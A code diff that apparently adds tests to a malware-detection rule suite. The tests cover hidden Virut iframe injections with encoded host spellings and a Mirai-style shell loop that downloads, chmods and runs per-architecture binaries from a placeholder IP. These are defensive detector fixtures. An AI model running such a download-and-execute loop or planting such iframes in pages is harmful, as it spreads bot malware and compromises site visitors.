@@ -84,6 +84,14 @@ def test_a_program_that_quotes_the_frame_of_virut_is_no_infected_page(mark: byte
     assert _rules(b"<html><body>" + FRAME + b"</body></html>") == ["virut_frame_in_page"]
     assert _rules(FRAME) == ["virut_frame_in_page"]
     assert _rules(quoting + b"<body>" + FRAME) == ["virut_frame_in_page"]
+    assert _rules(b"<?php echo " + mark + FRAME + b"\n</body>" + mark) == ["virut_frame_in_page"]  # put into a string
+
+
+@pytest.mark.parametrize("host", [b"www&#46;Brenz.pl", b"www.brenz.pl", b"jL&#46;chura.pl", b"NtKrnlpa.cn"])
+def test_the_frame_of_virut_is_known_with_letters_in_another_spelling(host: bytes) -> None:
+    frame = b'<iframe style="height:1px" src="http://' + host + b'/rc/" frameborder=0 width=1></iframe>'
+    assert _rules(b"<body>" + frame + b"</body>") == ["virut_frame_in_page"]
+    assert _rules(b"<body>" + frame.replace(b"/rc/", b"/video/") + b"</body>") == []
 
 
 def test_a_list_of_servers_to_block_is_not_taken_for_what_calls_them() -> None:
@@ -118,6 +126,15 @@ def test_a_download_script_needs_no_first_line_that_names_a_shell() -> None:
     lines = "\n".join(line.format(kind) for kind in ("mips", "mpsl", "arm7", "x86"))
     assert _rules(lines.encode()) == ["bot_download_script"]
     assert _rules(b"What the honeypot saw:\n" + lines.encode()) == []
+
+
+def test_a_download_script_may_go_through_the_processors_in_a_loop() -> None:
+    script = (
+        "#!/bin/bash\ncd /tmp || cd /var/run || cd /mnt || cd /root || cd /; "
+        "for a in arm arm5 m68k mpsl sh4 x86_64 mips; do wget http://192.0.2.1/main_$a; chmod +x *; ./main_$a; done\n"
+    )
+    assert _rules(script.encode()) == ["bot_download_script"]
+    assert _rules(script.replace("cd /var/run || ", "").encode()) == []
 
 
 MINER_WORDS = (
